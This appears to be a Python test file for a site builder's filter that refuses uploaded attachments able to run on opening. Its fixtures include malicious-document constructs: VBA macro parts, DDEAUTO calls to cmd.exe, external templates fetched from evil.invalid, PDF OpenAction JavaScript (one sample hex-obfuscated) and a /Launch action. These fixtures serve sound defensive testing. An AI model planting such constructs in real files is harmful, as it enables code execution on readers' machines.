"""Files that run when they are opened: each is refused, whatever it is called; what offices really attach is not."""

import io
import zipfile
import zlib

import pytest

from site_builder.records.passive_files import content_refused, name_refused
from tests.conftest import HEAD, ROOT, Space
from tests.privacy import files


def package(**parts: str | bytes) -> bytes:
    """An OOXML file: `parts` by name, with __ for / and _ for the dot before the ending's last letter group."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return made.getvalue()


def pdf_of(words: bytes, packed: bytes = b"") -> bytes:
    body = b"%PDF-1.7\n1 0 obj\n<< " + words + b" >>\nendobj\n"
    if packed:
        stream = zlib.compress(packed)
        body += (
            b"2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
            + stream
            + b"\nendstream\nendobj\n"
        )
    return body + b"trailer << >>\n%%EOF"


RELATION = '<Relationships><Relationship Id="r1" Type="http://x/{}" Target="http://evil.invalid/t.dotm" TargetMode="External"/></Relationships>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)
REFUSED = [
    ("说明.docx", package(word__vbaProject_dot_bin=b"x"), "里面有宏"),
    ("说明.docx", package(word__embeddings__oleObject1_dot_bin=OLE), "里面有嵌入的对象（OLE）"),
    ("说明.docx", package(word__activeX__activeX1_dot_xml="<ax/>"), "里面有控件"),
    ("说明.docx", package(word___rels__settings_dot_xml_dot_rels=RELATION.format("attachedTemplate")), "里面有打开时要取的外部文件或模板"),
    ("说明.docx", package(word___rels__document_dot_xml_dot_rels=RELATION.format("image")), "里面有打开时要取的外部文件或模板"),
    ("说明.docx", package(word__document_dot_xml="<w:instrText> DDEAUTO c:\\\\cmd.exe</w:instrText>"), "里面有动态数据交换（DDE）"),
    ("表.xlsx", package(xl__externalLinks__externalLink1_dot_xml="<ddeLink ddeService='cmd'/>"), "里面有动态数据交换（DDE）"),
    ("表.xlsx", package(xl__macrosheets__sheet1_dot_xml="<x/>"), "里面有宏"),
    ("表.ods", package(Basic__Standard__Module1_dot_xml="<x/>"), "里面有宏"),
    ("旧.doc", OLE + "_VBA_PROJECT".encode("utf-16-le"), "里面有宏"),
    ("旧.xls", OLE + "Ole10Native".encode("utf-16-le"), "里面有嵌入的对象（OLE）"),
    ("旧.rtf", b"{\\rtf1 {\\object\\objdata 0105}}", "里面有嵌入的对象（OLE）"),
    ("旧.rtf", b"{\\rtf1 {\\*\\template http://evil.invalid/a.dotm}}", "里面有嵌入的对象（OLE）"),
    ("通报.pdf", pdf_of(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "里面有脚本（JavaScript）"),
    ("通报.pdf", pdf_of(b"/S /J#61vaScript /J#53 (x)"), "里面有脚本（JavaScript）"),
    ("通报.pdf", pdf_of(b"/Type /Catalog", b"5 0 << /S /JavaScript /JS (x) >>"), "里面有脚本（JavaScript）"),
    ("通报.pdf", pdf_of(b"/S /Launch /F (cmd.exe)"), "里面有启动程序的动作"),
    ("通报.pdf", pdf_of(b"/AcroForm << /XFA 3 0 R >>"), "里面有动态表单（XFA）"),
    ("通报.pdf", files.pdf(attached=b"MZ"), "里面有夹带的文件"),
    ("通报.pdf", pdf_of(b"/Encrypt 9 0 R"), "里面有密码保护，里面查不了"),
    ("通报.pdf", b"<html><script>alert(1)</script>", "内容不是 pdf"),
    ("通报.docx", b"MZ\x90", "内容不是 docx"),
    ("照片.jpg", b"<svg onload=alert(1)>", "内容不是 jpg"),
    ("照片.webp", b"RIFF0000AVI ", "内容不是 webp"),
    ("说明.txt", b"\xef\xbb\xbf <!DOCTYPE html><script>alert(1)</script>", "内容是网页"),
    ("数据.csv", "甲,<script src=x>\n".encode(), "内容是网页"),
    ("说明.txt", b"MZ\0\0", "内容不是文字"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "content", "why"), REFUSED)
def test_content_that_runs(name: str, content: bytes, why: str) -> None:
    assert content_refused(name, content) == why


@pytest.mark.parametrize(
    "name",
    [
        "a.html",
        "a.svg",
        "a.xhtml",
        "a.hta",
        "a.docm",
        "a.exe",
        "a.lnk",
        "a.zip",
        "a.php",
        "a.txt.exe",
        "a.php.txt",
        "a.html.pdf",
        "a.pdf.docx",
        "附件.doc.pdf",
        "无后缀",
    ],
)
def test_names_that_are_not_allowed(name: str) -> None:
    assert name_refused(name)


FINE = [
    ("说明.docx", files.docx(remark="清洁")),
    ("说明.docx", package(word___rels__document_dot_xml_dot_rels=RELATION.format("hyperlink"))),
    ("表.xlsx", files.xlsx(cells=("甲",), picture=files.photo())),
    ("通报.pdf", files.pdf(subject="通报", note="批注", link="https://x.invalid/")),
    ("通报.pdf", pdf_of(b"/OpenAction [3 0 R /Fit] /Names << /Dests 4 0 R >>")),
    ("照片.jpg", files.photo(artist="甲")),
    ("图.png", files.png("图")),
    ("旧.doc", files.old_doc("联系人", odd=True)),
    ("说明.txt", "一、比较：甲<乙，丙>丁。\n".encode()),
    ("数据.csv", "甲,乙\r\n1,2\r\n".encode("gb18030")),
    ("1.关于3.5万元的说明（2026.10.12）.pdf", files.pdf(subject="x")),
]


@pytest.mark.parametrize(("name", "content"), FINE)
def test_what_offices_attach_is_right(name: str, content: bytes) -> None:
    assert (name_refused(name), content_refused(name, content)) == ("", "")


def test_the_gate_of_a_build(space: Space) -> None:
    space.notice(head=HEAD + 'attachments:\n  - file: "a.docx"\n    title: "说明"\n')
    space.write("notices/n/files/a.docx", package(word__vbaProject_dot_bin=b"x"))
    assert [(f.code, f.why) for f in space.findings() if f.severity == "error"] == [("K012", "里面有宏")]


def test_both_examples_of_a_server_say_the_same() -> None:
    """Policies, headers and what is hidden, in nginx's words and in Apache's."""
    import re

    nginx, apache = ((ROOT / f"deploy/{name}.conf").read_text("utf-8") for name in ("nginx", "apache"))
    policies = [set(re.findall(r"\"(default-src [^\"]*)\"", text)) for text in (nginx, apache)]
    assert policies[0] == policies[1] and len(policies[0]) == 2
    for words in (
        "X-Content-Type-Options",
        "Referrer-Policy",
        "Permissions-Policy",
        "max-age=31536000, immutable",
        "404.html",
    ):
        assert words in nginx and words in apache
    kinds = set(re.findall(r"^      ([a-z]+/[a-z]+) [a-z ]+;$", nginx, re.MULTILINE))
    assert kinds == set(re.findall(r"ForceType (?!application/octet)(\S+)", apache)) and len(kinds) == 8
    assert "default_type application/octet-stream" in nginx and "ForceType application/octet-stream" in apache
    assert "RedirectMatch 404" in apache and "location ~ /\\. { return 404; }" in nginx


def test_every_page_carries_its_policy(space: Space) -> None:
    space.notice()
    space.build()
    pages = [path for path in space.tree() if path.endswith(".html")]
    assert len(pages) > 8
    for path in pages:
        text = (space.out / path).read_text("utf-8")
        wasm = " 'wasm-unsafe-eval'" if path == "search/index.html" else ""
        policy = f"default-src 'none'; script-src 'self'{wasm}; style-src 'self'; img-src 'self'; connect-src 'self'; form-action 'self'; base-uri 'none'"
        assert f'<meta http-equiv="Content-Security-Policy" content="{policy}">' in text.replace("&#39;", "'"), path
